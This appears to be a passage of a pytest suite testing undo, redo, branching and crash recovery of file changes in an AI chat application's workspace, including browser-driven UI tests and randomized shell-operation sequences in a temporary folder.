        chat.say("/undo files").until("(to put back: a, modified)").until("chat c is kept: /redo files").until("put back: a, new").type("\x15").ready()
        assert world.tree() == start
        assert world.head() == "int_001", "the chat keeps its head"
        chat.say("/redo files").until("(to put back: a, modified)").until("put back: a, new").ready()
        assert world.tree() == ends
        (world.root / "a").write_text("mine")
        chat.say("/undo files").until("conflict: changed by someone else since").until("with \"force\"").ready()
        assert (world.root / "a").read_text() == "mine"
        chat.say("/undo force").until("chat c is kept").type("\x15").ready().say("/quit")
        assert chat.end() == 0
    finally:
        chat.kill()
    assert world.tree() == start


@pytest.mark.limit(120)
def test_the_page_shows_what_has_changed_and_takes_it_back(world, browse):
    (world.root / "a").write_text("1\n")
    os.link(world.root / "a", world.root / "a.bak")
    world.turn(write("base", "0"))
    world.turn(write("a", "2\n"), write("<b>.txt", "new\n"))
    page = browse(world.server)
    page.open_chat("c")
    page.until(lambda: len(page.all("turn")) == 2, "both turns")
    page.until(lambda: page.all("diff")[-1], "the button")
    page.script("arguments[0].click()", page.all("diff")[-1])
    page.until_text("turn-diff", "<b>.txt")
    assert [e.text for e in page.css("[data-testid=turn-diff] .removed")] == ["-1"]
    assert sorted(e.text for e in page.css("[data-testid=turn-diff] .added")) == ["+2", "+new"]
    # The turn is undone with its files, after these were shown.
    page.keys(Keys.CONTROL, Keys.ALT, "z")
    page.until_text("files-box", "removed <b>.txt")
    page.until_text("files-box", "changed back a (without its hard links)")
    assert world.head() == "int_002"
    page.script("arguments[0].click()", page.one("restore-files"))
    page.one("files-run").click()
    page.gone("files-box")
    eventually(lambda: world.head() == "int_001", "the turn is taken back")
    assert (world.root / "a").read_text() == "1\n" and not (world.root / "<b>.txt").exists()
    # An edit overwrites somebody else's changes only with force.
    page.until(lambda: len(page.all("turn")) == 1, "one turn")
    (world.root / "base").write_text("mine")
    world.script([])
    page.press("edit-message")
    page.until_text("preview-files", "changed by somebody else since")
    page.script("arguments[0].click()", page.one("restore-files"))
    page.script("arguments[0].click()", page.one("force-files"))
    page.press("edit-run")
    eventually(lambda: not (world.root / "base").exists(), "the file is as it was before the edited turn")


@pytest.mark.limit(120)
def test_the_page_asks_about_files_at_every_step_through_the_chat(world, browse):
    world.turn(write("a", "1\n"))
    world.turn(write("a", "2\n"))
    page = browse(world.server)
    page.open_chat("c")
    page.until(lambda: len(page.all("turn")) == 2, "both turns")

    def answer(restore):
        if restore:
            page.script("arguments[0].click()", page.one("restore-files"))
        page.press("files-run")
        page.gone("files-box")

    # Undo without files, then redo with them: nothing is asked, because the files are as they were.
    page.keys(Keys.CONTROL, Keys.ALT, "z")
    page.until_text("files-box", "changed back a")
    answer(restore=False)
    eventually(lambda: world.head() == "int_001", "one turn back")
    assert (world.root / "a").read_text() == "2\n"
    page.until(lambda: len(page.all("turn")) == 1, "one turn")
    page.keys(Keys.CONTROL, Keys.ALT, "y")
    eventually(lambda: world.head() == "int_002", "forward")
    page.until(lambda: len(page.all("turn")) == 2, "both turns")
    # Undo with files, then redo with the keyboard alone.
    page.keys(Keys.CONTROL, Keys.ALT, "z")
    page.one("files-box")
    answer(restore=True)
    eventually(lambda: (world.root / "a").read_text() == "1\n", "the file")
    page.until(lambda: len(page.all("turn")) == 1, "one turn")
    page.keys(Keys.CONTROL, Keys.ALT, "y")
    page.until(lambda: page.script("return document.activeElement.dataset.testid") == "files-run", "the focus")
    page.keys(Keys.SHIFT, Keys.TAB)
    page.until(lambda: page.script("return document.activeElement.dataset.testid") == "restore-files", "the choice")
    page.keys(Keys.SPACE)
    page.keys(Keys.TAB)
    page.keys(Keys.ENTER)
    eventually(lambda: (world.root / "a").read_text() == "2\n" and world.head() == "int_002", "the file, forward again")
    # Switch to another branch by its arrow: somebody else's change blocks it until it is allowed.
    world.script([])
    page.until(lambda: len(page.all("turn")) == 2, "both turns")
    world.server.client.edit("c", "int_002", "other", files="restore").finish()
    assert (world.root / "a").read_text() == "1\n"
    page.until_text("branch-label", "2/2")
    (world.root / "a").write_text("mine\n")
    page.press("branch-prev")
    page.until_text("files-box", "changed by somebody else since")
    page.script("arguments[0].click()", page.one("restore-files"))
    page.press("files-run")
    page.until(lambda: page.all("toast"), "why it is refused")
    assert world.head() == "int_003" and page.all("files-box"), "nothing is done, and the question is still open"
    page.script("arguments[0].click()", page.one("force-files"))
    page.press("files-run")
    page.gone("files-box")
    eventually(lambda: (world.root / "a").read_text() == "2\n", "the file of that branch")
    # A fork that is given up, and one that restores the files of its end.
    page.until(lambda: len(page.all("turn")) >= 2, "the branch")
    page.script("arguments[0].click()", page.all("fork")[0])
    page.until_text("files-box", "changed back a")
    page.press("files-cancel")
    page.gone("files-box")
    assert len(world.server.client.get("/chats").json["chats"]) == 1
    page.script("arguments[0].click()", page.all("fork")[0])
    page.one("files-box")
    answer(restore=True)
    eventually(lambda: (world.root / "a").read_text() == "1\n" and len(world.server.client.get("/chats").json["chats"]) == 2, "the copy, with its files")


# --- random sequences ------------------------------------------------------------------------------------------------

PATHS = ["a", "b", "d/x", "d/y", "e/f/g", "d", "sp ace", "new\nline", "ümlaut", "e"]
COMMANDS = ["rm -rf d", "mv a b", "mv d moved", "cp -r d copy", "rm -rf a; mkdir a; echo 1 > a/in", "mkdir -p empty/dir", "echo more >> a", "echo x > side.log",
            "chmod +x b", "ln -sfn a link", "mkdir -p e/f && printf %s text > e/f/g", "rm -rf moved copy empty", "mv e/f/g a", "rm -rf e; echo file > e",
            "for i in 1 2 3 4 5; do echo $i > n$i; done", "rm -f n2 n4; echo 9 > n1", "cat b > a", "true", "mv 'sp ace' plain", "printf '\\000\\377' > binary",
            "cp a a2 && mv a2 a", "touch a b"]


class Model:
    """Does the same operations in its own folder, independently of the server."""

    def __init__(self, folder):
        self.folder = folder

    def apply(self, state, calls):
        shutil.rmtree(self.folder, ignore_errors=True)
        shutil.copytree(state, self.folder, symlinks=True) if state else self.folder.mkdir()
        for name, arguments in calls:
            path = self.folder / arguments.get("path", "")
            if name == "write_file":
                try:
                    parts = path.relative_to(self.folder).parts
                    if any((self.folder / pathlib.Path(*parts[:n])).is_symlink() for n in range(1, len(parts) + 1)) or path.is_dir():
                        continue
                    path.parent.mkdir(parents=True, exist_ok=True)
                    path.write_text(arguments["content"])
                except OSError:
                    continue
            elif name == "delete_file":
                try:
                    path.unlink()
                except OSError:
                    continue
            else:
                subprocess.run(["/bin/sh", "-c", arguments["command"]], cwd=self.folder, stdin=subprocess.DEVNULL, capture_output=True, check=False)


def random_calls(dice):
    calls = []
    for _ in range(dice.randint(1, 3)):
        kind = dice.random()
        if kind < 0.35:
            calls.append(write(dice.choice(PATHS), f"{dice.randint(0, 4)}\n" * dice.randint(0, 3)))
        elif kind < 0.5:
            calls.append(delete(dice.choice(PATHS)))
        else:
            calls.append(shell(dice.choice(COMMANDS)))
    return calls


@pytest.mark.limit(40 + 6 * SEQUENCES)
def test_random_sequences_leave_what_a_model_says(world, tmp_path, figure):
    done = 0
    for number in range(SEQUENCES):
        done += one_sequence(world, tmp_path, SEED * 1000 + number)
    figure(f"workspace history: {SEQUENCES} random sequences, {done} steps, each as the model says")


def one_sequence(world, tmp_path, seed):
    dice = random.Random(seed)
    chat = f"s{seed}"
    for path in world.root.iterdir():
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
    (world.root / ".gitignore").write_text("*.log\n")
    (world.root / "a").write_text("first\n")
    states = tmp_path / "states" / chat
    states.mkdir(parents=True)
    model = Model(tmp_path / "model")
    shutil.copytree(world.root, states / "start", symlinks=True)
    state_of, parent_of = {None: states / "start"}, {}
    current, head = None, None  # the interaction whose files are present, and the head
    history = []

    def check(what):
        expected, found = tree(state_of[current]), world.tree()
        assert found == expected, f"seed {seed}: {history} then {what}: {set(found.items()) ^ set(expected.items())}"

    def run(calls, base):
        model.apply(state_of[base], calls)

    steps = dice.randint(6, 10)
    for _ in range(steps):
        known = [i for i in parent_of]
        action = dice.choices(["turn", "edit", "undo", "head", "keep", "fork"], [8, 3, 3, 3, 1, 1])[0] if known else "turn"
        if action == "turn":
            calls = random_calls(dice)
            run(calls, current)
            stream = world.turn(*calls, chat=chat)
            parent, head = head, stream.events[0]["interaction_id"]
        elif action == "edit":
            edited, calls = dice.choice(known), random_calls(dice)
            parent = parent_of[edited]
            run(calls, parent)
            head = world.edit(edited, *calls, chat=chat, files="restore").events[0]["interaction_id"]
        elif action == "undo":
            if parent_of[head] is None:
                continue
            world.post("undo", chat=chat, files="restore").expect(200)
            current = head = parent_of[head]
        elif action == "head":
            current = head = dice.choice(known)
            world.post("head", chat=chat, interaction_id=head, files="restore").expect(200)
        elif action == "keep":
            head = dice.choice(known)
            world.post("head", chat=chat, interaction_id=head).expect(200)
        else:
            current = dice.choice(known)
            world.post("fork", chat=chat, interaction_id=current, files="restore", chat_id=f"{chat}-{len(history)}").expect(201)
        if action in ("turn", "edit"):
            parent_of[head] = parent
            state_of[head] = states / head
            shutil.copytree(tmp_path / "model", state_of[head], symlinks=True)
            history.append((action, calls))
            current = head
        else:
            history.append((action, str(head), str(current)))
        check(action)
    return steps


# --- kill -9 ---------------------------------------------------------------------------------------------------------

@pytest.mark.limit(60 + 5 * KILLS)
def test_a_restore_that_is_killed_is_finished_or_undone(make_server, provider, figure):
    dice = random.Random(SEED)
    world = World(make_server(provider, config=ALL), provider)
    (world.root / "files").mkdir()
    for i in range(150):
        (world.root / "files" / f"old{i}").write_text(f"old {i}\n" * 50)
    world.turn(write("base", "0"))
    first = world.tree()
    world.turn(shell("cd files; for i in $(seq 0 149); do echo changed $i > old$i; done; for i in $(seq 0 149); do mkdir -p sub$i; echo new > sub$i/new; done; rm old7 old8"))
    second = world.tree()
    states, struck = {"int_001": first, "int_002": second}, 0
    intent = world.home.data / ".restore.c"
    for _ in range(KILLS):
        target = "int_001" if world.head() == "int_002" else "int_002"
        asking = threading.Thread(target=lambda w=world, t=target: attempt(w, t))
        asking.start()
        until = time.monotonic() + 10
        while not intent.exists() and asking.is_alive() and time.monotonic() < until:
            pass
        time.sleep(dice.random() * 0.04)
        world.server.kill()
        asking.join()
        struck += intent.exists()
        world = World(make_server(provider, home=world.home, config=ALL), provider)
        head = world.head()
        found = world.tree()
        assert found == states[head], f"head {head}, intent {intent.exists()}, log {world.server.log()[-2000:]}: {sorted(set(found.items()) ^ set(states[head].items()))[:5]}"
        assert not intent.exists()
    figure(f"workspace history: {KILLS} kills around a restore of 450 paths, {struck} of them inside")


def attempt(world, target):
    try:
        world.client.post("/chats/c/head", {"interaction_id": target, "files": "restore"})
    except OSError:
        pass
    except Exception:  # the connection broke in the middle of the answer
        pass
